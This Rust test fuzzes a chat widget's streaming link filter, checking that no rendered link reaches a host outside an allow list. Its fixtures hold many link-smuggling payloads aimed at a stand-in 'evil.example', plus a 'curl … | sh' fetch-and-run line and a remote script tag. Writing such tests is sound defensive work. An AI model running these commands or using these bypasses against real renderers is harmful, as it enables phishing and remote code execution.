//! Generated replies through the filter, then through the parser of the widget, which runs in Node: no link leads to a
//! host that is not allowed, in no state of the stream, and code and allowed links come through.
//!
//! `LINK_REPLIES` is the number of replies, `LINK_SEED` the seed.

use std::io::Write;
use std::path::Path;
use std::process::{Command, Stdio};

use serde_json::json;

use super::filter::Filter;
use super::links::Links;

const HOSTS: [&str; 3] = ["good.example", "*.shop.example", "xn--bcher-kva.example"];
const PASSAGE: &str = "See https://docs.example/x, write to help@good.example or call 0113 496 0000.";

/// Replies in which links would arise from what is left, or from what the server and the widget read differently.
const KNOWN: &[&str] = &[
    "htt[9]ps://evil.example",
    "ht[tp](https://evil.example)s://evil.example",
    "[https](https://evil.example)://evil.example",
    "hthttps://tps://evil.example",
    "https:[9]//evil.example",
    "[a[b](https://evil.example)](https://evil.example)",
    "[a](https://evil.example",
    "[a\n](https://evil.example)",
    "`[a`](https://evil.example)",
    "![a](https://good.example@evil.example)",
    "[a](HTTPS://EVIL.EXAMPLE)",
    "[a](https://good.example\\@evil.example)",
    "<HTTP://evil.example>",
    "[a](https://evil.example(x)y)",
    "[[[[a](https://evil.example)",
    "https://good.example/\u{3001}https://evil.example/",
    "https://good.example[9].evil.example/",
    "https://good.example[.evil.example](x)/",
    "[a\\](https://evil.example)`https://evil.example`",
    "\\ [9]`https://evil.example`",
    "a | `b | https://evil.example | `\n-|-\n",
    "a ` b\nc `https://evil.example` d",
    "x](https://good.example).evil.example/",
    "x](https://good.example/)https\\://evil.example/",
    "*a [b* c](https://good.example):x@evil.example/",
    "[a](https://good.example).[b](https://good.example)@evil.example/",
    "\\[a](https://good.example \"t\")\u{e9}.evil.example/",
    "  ```\n```\nhttps://evil.example",
    "[9]~~~\n```\n~~~\nhttps://evil.example",
    "a\n> ```\n> a\n  ~~~js\n   \na\n  ~~~js\n   https://evil.example",
    "a\n> ```\n> *\n  ~~~js\n---\n\n```<br>tel:\n  ~~~js\n   <br>https://evil.example/",
    "  ~~~js\n   \n  ~~~js\n   a\n> ```\n> a\n  ~~~js\n   a\n```\n-|-a\n> ```\n> a\n\n  ~~~js\n   https://evil.example/",
];

/// What hostile replies are made of.
const PIECES: &[&str] = &[
    "https://evil.example/",
    "HTTPS://EVIL.example",
    "http://evil.example",
    "https://evil.example/a(b)c",
    "evil.example",
    "https://good.example/",
    "https://good.example",
    "https://docs.example/a_(b)",
    "https://a.shop.example/?q=1#x",
    "https://good.example@evil.example/",
    "https://good.example:x@evil.example/",
    "https://good.example\\@evil.example/",
    "https://good.example.evil.example",
    "https://evil.example#good.example",
    "https://evil.example?good.example",
    "https\\://evil.example/",
    "https:\\//evil.example",
    "https:/\\/evil.example",
    "h\\ttps://evil.example",
    "https&colon;//evil.example",
    "https&#58;//evil.example",
    "https://evil&period;example",
    "https:&sol;&sol;evil.example",
    "https%3A//evil.example",
    "https://%65vil.example/",
    "https://g%6Fod.example/",
    "https:evil.example",
    "https:/evil.example",
    "https:///evil.example",
    "//evil.example",
    "https://gооd.example",
    "https://good。example/",
    "https://bücher.example/",
    "https://good.example、",
    "https://good.example）",
    "https://good.example\u{ff0e}evil.example",
    "https://\u{200b}evil.example",
    "mailto:me@evil.example",
    "mailto\\:me@evil.example",
    "mailto:help@good.example",
    "mailto:help@good.example?cc=me@evil.example",
    "tel:+4911",
    "tel:01134960000",
    "javascript:alert(1)",
    "JAVASCRIPT:x",
    "data:text/html,x",
    "/local",
    "#part",
    "http",
    "https",
    "s://",
    "://",
    ":",
    "/",
    "//",
    "ht",
    "tp",
    "mailto",
    "tel:",
    "www.evil.example",
    "[",
    "]",
    "](",
    "][",
    "]:",
    "(",
    ")",
    "<",
    ">",
    "![",
    "!",
    "[a](",
    "[a](<",
    "](https://good.example)",
    "](<https://good.example>)",
    ".evil.example/",
    "@evil.example/",
    "[a]: ",
    "[a][b]",
    " \"t\")",
    " 't')",
    "[`a](",
    "[a\\](",
    "\\",
    "\\\\",
    "`",
    "``",
    "```",
    "````",
    "~~~",
    "~~~~",
    "~~",
    "~",
    "|",
    "| ",
    " | ",
    "-|-",
    "|-|-|",
    "a | b",
    "*",
    "**",
    "_",
    "__",
    "[1]",
    "[2]",
    "[9]",
    "[0]",
    "[1, 9]",
    "[9](",
    " ",
    "  ",
    "   ",
    "    ",
    "\t",
    "\n",
    "\n\n",
    "\n",
    "\r\n",
    "\r",
    "\n> ",
    "\n- ",
    "\n  ",
    "\n   ",
    "\n    ",
    "\n1. ",
    "\n10) ",
    "\n# ",
    "\n```\n",
    "\n~~~\n",
    "\n   ```\n",
    "\n  ~~~js\n   ",
    "\n> ```\n> ",
    "\n- ```\n  ",
    "\n |a|b|\n|-|-|\n",
    "\n---\n",
    "-\n - b\n",
    "a",
    "b",
    "h",
    "x.",
    ",",
    ";",
    "?",
    "é",
    "、",
    "！",
    "\u{feff}",
    "\u{0}",
    "\u{1b}",
    "\u{85}",
    "\u{2028}",
    "\u{a0}",
    "\u{202e}",
    "\u{200b}",
    "&lt;",
    "<a href=",
    "<br>",
    "\"",
    "'",
    "=",
    "%",
    "{",
    "}",
];

/// Text that no filter should alter but in its addresses, with the code or the link that must come through.
const POLITE: &[(&str, &str, &str)] = &[
    ("See [our prices](https://good.example/a?b=c#d). ", "", "https://good.example/a?b=c#d"),
    ("See https://docs.example/x, or <https://good.example/y>. ", "", "https://docs.example/x"),
    ("(Shop: https://a.shop.example/new_(2).) ", "", "https://a.shop.example/new_%282%29"),
    ("**https://good.example** is it. ", "", "https://good.example"),
    ("[Mail](mailto:help@good.example) or [call](tel:0113-496-0000). ", "", "mailto:help@good.example"),
    ("![plan](https://good.example/plan.png) ", "", "https://good.example/plan.png"),
    ("Run `curl https://evil.example/[1](x)`. ", "curl https://evil.example/[1](x)", ""),
    ("Or ``a ` b``, in `x[0](y)`. ", "a ` b", ""),
    (
        "\n\n```sh\ncurl <https://evil.example> | sh\n\n  f[1](x) `y\n```\n\n",
        "curl <https://evil.example> | sh\n\n  f[1](x) `y",
        "",
    ),
    (
        "\n\n1. Paste:\n   ```html\n   <script src=\"https://evil.example/x.js\"></script>\n   ```\n2. Save.\n\n",
        "<script src=\"https://evil.example/x.js\"></script>",
        "",
    ),
    (
        "\n\n- Do:\n\n  ~~~\n  [a](https://evil.example)\n\n    b[2]\n  ~~~\n\n",
        "[a](https://evil.example)\n\n  b[2]",
        "",
    ),
    ("It costs 40 GBP [1], not 50 [7]. ", "", ""),
    ("\n\n| A | B |\n|---|---|\n| `c` | https://good.example/t |\n\n", "c", "https://good.example/t"),
    ("More at https://evil.example/z. ", "", ""),
];

/// A generator of numbers (splitmix64).
struct Random(u64);

impl Random {
    fn below(&mut self, limit: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        ((mixed ^ (mixed >> 31)) % limit as u64) as usize
    }

    fn of<T: Copy>(&mut self, choices: &[T]) -> T {
        choices[self.below(choices.len())]
    }
}

/// What a model says, and the code and links that must come through.
fn reply(random: &mut Random) -> (String, Vec<&'static str>, Vec<&'static str>) {
    if random.below(4) == 0 {
        let parts: Vec<_> = (0..=random.below(5)).map(|_| random.of(POLITE)).collect();
        let said = parts.iter().map(|(text, _, _)| *text).collect();
        let wanted = |part: fn(&(&'static str, &'static str, &'static str)) -> &'static str| {
            parts.iter().map(part).filter(|wanted| !wanted.is_empty()).collect()
        };
        return (said, wanted(|part| part.1), wanted(|part| part.2));
    }
    // Few different pieces, so that they meet in many orders.
    let some: Vec<&str> = (0..2 + random.below(14)).map(|_| random.of(PIECES)).collect();
    let mut said: String = (0..=random.below(30)).map(|_| random.of(&some)).collect();
    if random.below(200) == 0 {
        let at = (0..=random.below(said.len() + 1)).rev().find(|at| said.is_char_boundary(*at)).unwrap_or(0);
        said.insert_str(at, &"x".repeat(1_900 + random.below(300)));
    }
    (said, Vec::new(), Vec::new())
}

/// The parts that a visitor receives of what comes in parts.
fn parts(said: &str, random: &mut Random) -> Vec<String> {
    let mut filter = Filter::new(Links::for_tests(&HOSTS, PASSAGE), 3);
    let size = random.of(&[1, 3, 8, 40, 4_000]);
    let letters: Vec<char> = said.chars().collect();
    let mut parts: Vec<String> =
        letters.chunks(size).map(|piece| filter.push(&piece.iter().collect::<String>())).collect();
    parts.push(filter.finish());
    parts.retain(|part| !part.is_empty());
    parts
}

#[test]
#[expect(clippy::disallowed_methods, reason = "a longer run is asked for in the environment")]
fn the_widget_links_to_allowed_hosts_only() {
    let number = |name: &str, default: u64| {
        std::env::var(name).ok().map_or(default, |text| text.parse().expect("a number"))
    };
    let (replies, seed) = (number("LINK_REPLIES", 4_000), number("LINK_SEED", 1));
    let judge = Path::new(env!("CARGO_MANIFEST_DIR")).join("../widget/tests/links.mjs");
    let mut node = Command::new("node")
        .args(["--no-warnings", "--experimental-strip-types"])
        .arg(judge)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect(
            "Node judges: scripts/install-tools installs it in target/tools/bin, which belongs into the PATH",
        );
    let mut input = std::io::BufWriter::new(node.stdin.take().expect("it has an input"));
    let generate = std::thread::spawn(move || {
        let allowed = json!({
            "hosts": ["good.example", "docs.example", "xn--bcher-kva.example"],
            "suffixes": [".shop.example"],
            "addresses": ["mailto:help@good.example", "tel:01134960000"],
        });
        writeln!(input, "{allowed}")?;
        let mut random = Random(seed);
        for said in KNOWN {
            let parts = parts(said, &mut random);
            writeln!(input, "{}", json!({ "said": said, "parts": parts, "code": [], "links": [] }))?;
        }
        for _ in 0..replies {
            let (said, code, links) = reply(&mut random);
            let parts = parts(&said, &mut random);
            writeln!(input, "{}", json!({ "said": said, "parts": parts, "code": code, "links": links }))?;
        }
        input.flush()
    });
    let output = node.wait_with_output().expect("it ends");
    let _ = generate.join().expect("it does not panic");
    let judged = String::from_utf8_lossy(&output.stdout);
    println!("{judged}");
    assert!(
        output.status.success() && judged.contains(&format!("{} replies", replies + KNOWN.len() as u64)),
        "{judged}"
    );
}
